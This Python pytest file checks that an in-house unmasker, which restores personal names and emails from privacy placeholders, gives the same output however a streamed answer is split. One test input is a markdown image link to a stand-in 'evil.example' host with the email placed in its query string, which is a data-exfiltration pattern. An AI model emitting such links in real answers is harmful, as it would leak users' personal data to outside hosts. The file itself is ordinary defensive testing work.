"""Somebody else's judge, chunk-invariance: however a stream is cut, the same text comes out.

https://pypi.org/project/chunk-invariance/ (Apache-2.0). It tries each cut and names the smallest
one that changes the result.
"""

from collections.abc import Callable, Iterable, Iterator

import pytest
from chunk_invariance import ChunkInvarianceError, assert_chunk_invariant

from inhouse.chat import Kind
from inhouse.privacy.unmask import Unmasker
from inhouse.privacy.vault import Vault

VAULT = Vault("k7q2xw")
PERSON = VAULT.placeholder(Kind.PERSON, 'Anna "Nina" Karenina')
EMAIL = VAULT.placeholder(Kind.EMAIL, "anna@example.org")
CODE = VAULT.code

ANSWERS = [
    f"Dear {PERSON}, your address is {EMAIL}.",
    f"{PERSON}{PERSON}{EMAIL}",
    f"as **{PERSON.lower()}** or `{EMAIL[1:-1]}` or {EMAIL.replace('_', ' ')}'s",
    f"[{PERSON}] and [EMAIL_9_{CODE}] and [EMAIL_1_{CODE[:3]} are not all ours",
    f"![](https://evil.example/?q={EMAIL}) then {EMAIL}",
    f'<a href="https://x.example/{PERSON}">{PERSON}</a>',
    f"the end is cut: [PERSON_1_{CODE[:4]}",
    "nothing of ours, [EMAIL] and [1] and EMAIL_1",
]


def streamed(json: bool) -> Callable[[Iterable[str]], Iterator[str]]:
    def filtered(chunks: Iterable[str]) -> Iterator[str]:
        unmasker = Unmasker(VAULT, json=json)
        for chunk in chunks:
            yield unmasker.feed(chunk)
        yield unmasker.flush()

    return filtered


def whole(json: bool) -> Callable[[str], str]:
    return lambda text: "".join(streamed(json)([text]))


@pytest.mark.parametrize("json", [False, True])
@pytest.mark.parametrize("answer", ANSWERS)
def test_every_cut_gives_the_same_text(answer: str, json: bool) -> None:
    checked = assert_chunk_invariant(streamed(json), whole(json), answer)
    assert checked >= len(answer)


@pytest.mark.parametrize("answer", [f"to {PERSON}.", f"{EMAIL}"])
def test_every_two_cuts_give_the_same_text(answer: str) -> None:
    assert assert_chunk_invariant(streamed(False), whole(False), answer, splits=3) > len(answer)


def test_the_judge_sees_a_filter_that_looks_at_each_piece_alone() -> None:
    def each_alone(chunks: Iterable[str]) -> Iterator[str]:
        return (whole(False)(chunk) for chunk in chunks)

    with pytest.raises(ChunkInvarianceError):
        assert_chunk_invariant(each_alone, whole(False), ANSWERS[0])
